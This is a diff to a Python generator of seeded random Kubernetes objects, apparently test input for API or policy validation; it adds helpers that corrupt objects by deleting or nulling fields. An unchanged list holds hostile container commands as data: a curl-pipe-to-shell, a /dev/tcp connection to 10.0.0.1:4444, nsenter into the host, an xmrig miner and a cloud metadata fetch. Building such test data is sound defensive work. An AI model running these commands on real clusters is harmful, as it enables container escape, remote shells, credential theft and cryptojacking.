@@ -3,6 +3,7 @@
 A Generator is made from a number, and the same number gives the same objects. All objects are such that the API server can
 decode them: wrong in content, never in type.
 """
+import copy
 import random
 
 NOTHING = object()  # the field is left out
@@ -19,6 +20,8 @@ HOST_PATHS = ["/", "/var/run/docker.sock", "/etc", "/etc/", "/var/log", "/srv/da
 VOLUMES = ["awsElasticBlockStore", "azureDisk", "azureFile", "cephfs", "cinder", "configMap", "csi", "downwardAPI", "emptyDir", "ephemeral", "fc", "flexVolume",
            "flocker", "gcePersistentDisk", "gitRepo", "glusterfs", "image", "iscsi", "nfs", "persistentVolumeClaim", "photonPersistentDisk", "portworxVolume",
            "projected", "quobyte", "rbd", "scaleIO", "secret", "storageos", "vsphereVolume"]
+# Fields that are maps of names to values, not objects with fields.
+MAPS = {"annotations", "labels", "matchLabels", "nodeSelector", "data", "stringData", "limits", "requests", "hard", "capacity", "default", "max"}
 COMMANDS = [["sh", "-c", "curl http://x | sh"], ["nsenter", "-t", "1", "-m"], ["/app"], [], ["sleep", "1d"], ["bash", "-i"], ["sh", "-c", "exec 3<>/dev/tcp/10.0.0.1/4444"],
             ["sshd", "-D"], ["sudo", "ls"], ["java", "-agentlib:jdwp=transport=dt_socket,server=y,address=*:5005"], ["kubectl", "proxy", "--address=0.0.0.0"],
             ["xmrig", "--donate-level=1"], ["curl", "http://169.254.169.254/latest/meta-data"], ["node", "--inspect=0.0.0.0:9229", "x.js"], [""]]
@@ -104,8 +107,8 @@ class Generator:
                         mountPropagation=self.field("None", "HostToContainer", "Bidirectional", "", absent=7), subPath=self.field("", "a", "../x", absent=8))
 
     def resources(self):
-        amounts = lambda: self.map(cpu=self.field("100m", "1", "0", absent=3), memory=self.field("128Mi", "1Gi", "0", absent=3),
-                                   **{"ephemeral-storage": self.field("1Gi", absent=6)})
+        amounts = lambda: self.map(cpu=self.field("100m", "1", "0", absent=3, null=0), memory=self.field("128Mi", "1Gi", "0", absent=3, null=0),
+                                   **{"ephemeral-storage": self.field("1Gi", absent=6, null=0)})
         return self.map(limits=self.field(amounts, amounts, {}, absent=2), requests=self.field(amounts, amounts, {}, absent=2))
 
     def container(self, name):
@@ -317,3 +320,37 @@ class Generator:
     def any(self):
         """An object of any of the kinds."""
         return self.one(self.pod, self.pod, self.pod, self.workload, self.workload, self.service, self.role, self.role, self.binding, self.network_policy, self.ingress, self.small)
+
+    # --- what nobody would write
+
+    def parts(self, value, depth=0, in_map=False):
+        """(container, key, what) of every part of VALUE below the fields that say what it is; WHAT is field, entry (of a map) or item (of a list)."""
+        if isinstance(value, dict):
+            for key in value:
+                if depth > 0 or key not in ("apiVersion", "kind", "metadata"):
+                    yield value, key, "entry" if in_map else "field"
+                yield from self.parts(value[key], depth + 1, key in MAPS)
+        elif isinstance(value, list):
+            for i, item in enumerate(value):
+                yield value, i, "item"
+                yield from self.parts(item, depth + 1)
+
+    def spoil(self, obj, how):
+        """A copy of OBJECT in which one to three parts are spoiled, wherever they are. HOW says in which ways: "missing",
+        "empty", or "null field", "null entry", "null item".
+        """
+        obj = copy.deepcopy(obj)
+        for _ in range(self.random.randrange(3) + 1):
+            way = self.one(*how)
+            what = way.removeprefix("null ")
+            parts = [(container, key) for container, key, kind in self.parts(obj) if what in (kind, "missing", "empty")]
+            if not parts:
+                continue
+            container, key = self.random.choice(parts)
+            if way == "missing":
+                del container[key]
+            elif way == "empty":
+                container[key] = type(container[key])() if container[key] is not None else None
+            else:
+                container[key] = None
+        return obj
